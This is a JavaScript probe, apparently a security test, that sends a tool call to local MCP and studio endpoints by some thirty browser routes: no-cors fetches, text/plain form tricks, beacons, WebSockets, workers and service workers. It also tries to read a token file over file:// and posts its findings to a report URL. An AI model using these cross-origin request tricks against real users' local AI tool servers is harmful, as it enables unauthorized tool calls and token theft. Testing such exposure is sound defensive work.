// Everything that a web page can send to an address without being let in there, and what it gets to see of the answer.
(async () => {
  const settings = JSON.parse(new URL(document.currentScript.src).searchParams.get('settings'));
  const patience = 2500;
  const pause = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
  const meta = { 'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientCapabilities': {} };
  const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'get_credits', arguments: {}, _meta: meta } };
  const both = 'application/json, text/event-stream';

  const kinds = {
    mcp: {
      path: '/mcp',
      body: JSON.stringify(call),
      headers: { 'MCP-Protocol-Version': '2026-07-28', 'Mcp-Method': 'tools/call', 'Mcp-Name': 'get_credits' },
    },
    studio: { path: '/api/auth/anonymous-token', body: '{}', headers: { 'X-Client-Id': 'a-page' } },
    drain: { path: '/studio/drain', body: '', headers: {} },
  };
  kinds.decoy = { ...kinds.mcp, path: '/decoy' };

  const read = async response => response.type === 'opaque' ? 'opaque' : `${response.status} ${(await response.text()).slice(0, 300)}`;

  const element = (tag, attributes) => new Promise(resolve => {
    const made = document.createElement(tag);
    made.onload = () => resolve('loaded');
    made.onerror = () => resolve('error');
    Object.assign(made, attributes);
    document.body.append(made);
  });

  const form = (action, enctype, fields, method = 'POST') => new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.name = `frame${Math.random()}`;
    document.body.append(frame);
    const made = document.createElement('form');
    Object.assign(made, { action, enctype, method, target: frame.name });
    for (const [name, value] of fields) {
      const input = document.createElement('input');
      Object.assign(input, { name, value });
      made.append(input);
    }

    document.body.append(made);
    frame.onload = () => resolve('loaded');
    made.submit();
  });

  const ways = (base, kind) => {
    const { path, body, headers } = kinds[kind];
    const url = way => `${base}${path}?way=${settings.page}.${way}`;
    const cut = body.lastIndexOf('}');
    const json = { 'Content-Type': 'application/json', Accept: both };
    return {
      simplePost: async way => read(await fetch(url(way), { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain', Accept: both }, body })),
      disguisedPost: async way => read(await fetch(url(way), { method: 'POST', mode: 'no-cors', body: new Blob([body], { type: 'text/plain; application/json' }) })),
      readablePost: async way => read(await fetch(url(way), { method: 'POST', headers: { 'Content-Type': 'text/plain', Accept: both }, body })),
      jsonPost: async way => read(await fetch(url(way), { method: 'POST', headers: json, body })),
      wholeCall: async way => read(await fetch(url(way), { method: 'POST', headers: { ...json, ...headers }, body })),
      guessedToken: async way => read(await fetch(url(way), { method: 'POST', headers: { ...json, ...headers, Authorization: 'Bearer guessed' }, body })),
      knownToken: async way => read(await fetch(url(way), { method: 'POST', headers: { ...json, ...headers, Authorization: `Bearer ${settings.token}` }, body })),
      handshake: async way => read(await fetch(url(way), { method: 'POST', headers: { ...json, Authorization: `Bearer ${settings.token}` },
        body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'page', version: '1' } } }) })),
      credentials: async way => read(await fetch(url(way), { method: 'POST', credentials: 'include', headers: json, body })),
      keepalive: async way => read(await fetch(url(way), { method: 'POST', mode: 'no-cors', keepalive: true, body })),
      get: async way => read(await fetch(url(way))),
      silentGet: async way => read(await fetch(url(way), { mode: 'no-cors', referrerPolicy: 'no-referrer' })),
      head: async way => read(await fetch(url(way), { method: 'HEAD', mode: 'no-cors' })),
      remove: async way => read(await fetch(url(way), { method: 'DELETE', headers: { 'Mcp-Session-Id': 'guessed' } })),
      put: async way => read(await fetch(url(way), { method: 'PUT', body })),
      request: way => new Promise(resolve => {
        const request = new XMLHttpRequest();
        request.open('POST', url(way));
        request.onloadend = () => resolve(`${request.status} ${request.responseText.slice(0, 300)}`);
        request.send(body);
      }),
      beacon: async way => `queued ${navigator.sendBeacon(url(way), body)}`,
      typedBeacon: async way => `queued ${navigator.sendBeacon(url(way), new Blob([body], { type: 'application/json' }))}`,
      textForm: way => form(url(way), 'text/plain', [[body.slice(0, cut) + ',"x":"', '"}']]),
      plainForm: way => form(url(way), 'application/x-www-form-urlencoded', [['body', body]]),
      fileForm: way => form(url(way), 'multipart/form-data', [['files', body]]),
      getForm: way => form(url(way), 'text/plain', [['way', `${settings.page}.${way}`], ['body', body]], 'GET'),
      image: way => element('img', { src: url(way) }),
      script: way => element('script', { src: url(way) }),
      style: way => element('link', { rel: 'stylesheet', href: url(way) }),
      frame: way => element('iframe', { src: url(way) }),
      object: way => element('object', { data: url(way) }),
      socket: way => new Promise(resolve => {
        const socket = new WebSocket(url(way).replace('http:', 'ws:'), ['mcp']);
        socket.onopen = () => resolve('200 open');
        socket.onerror = () => resolve('error');
      }),
      events: way => new Promise(resolve => {
        const events = new EventSource(url(way));
        events.onopen = () => resolve('200 open');
        events.onerror = () => { events.close(); resolve('error'); };
      }),
      worker: way => new Promise(resolve => {
        const code = `fetch(${JSON.stringify(url(way))}, ${JSON.stringify({ method: 'POST', headers: { 'Content-Type': 'text/plain' }, body })}).then(r => postMessage(r.status + ''), e => postMessage('error'))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        worker.onmessage = message => resolve(message.data);
        worker.onerror = () => resolve('error');
      }),
      serviceWorker: async way => {
        if (!navigator.serviceWorker || !isSecureContext || origin === 'null') {
          return 'none here';
        }

        const registered = await navigator.serviceWorker.register(`/service-worker.js?url=${encodeURIComponent(url(way))}&body=${encodeURIComponent(body)}`, { scope: `/scope-${Math.random()}/` });
        const worker = registered.installing ?? registered.waiting ?? registered.active;
        await new Promise(resolve => worker.state === 'activated' ? resolve() : worker.addEventListener('statechange', () => worker.state === 'activated' && resolve()));
        return 'activated';
      },
    };
  };

  const seen = [];
  const attempt = async (target, way, run) => {
    const result = await Promise.race([run(way).catch(fault => `refused ${fault.name}`), pause(patience).then(() => 'nothing')]);
    seen.push({ page: settings.page, target: target.base, kind: target.kind, way, result });
  };

  const attack = target => Object.entries(ways(target.base, target.kind)).map(([way, run]) => attempt(target, way, run));

  const file = { base: 'file://', kind: 'token' };
  await Promise.all([
    attempt(file, 'readFile', async () => read(await fetch(`file://${settings.tokenPath}`))),
    attempt(file, 'frameFile', () => element('iframe', { src: `file://${settings.tokenPath}` })),
    attempt(file, 'scriptFile', () => element('script', { src: `file://${settings.tokenPath}` })),
    ...settings.targets.slice(0, 1).flatMap(attack),
  ]);

  // A few at a time: a browser keeps so many connections at most, and what only waits for one proves nothing.
  for (let at = 1; at < settings.targets.length; at += 3) {
    await Promise.all(settings.targets.slice(at, at + 3).flatMap(attack));
  }

  // Whatever was only queued gets its time to leave.
  await pause(300);
  await fetch(`${settings.site}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
})();
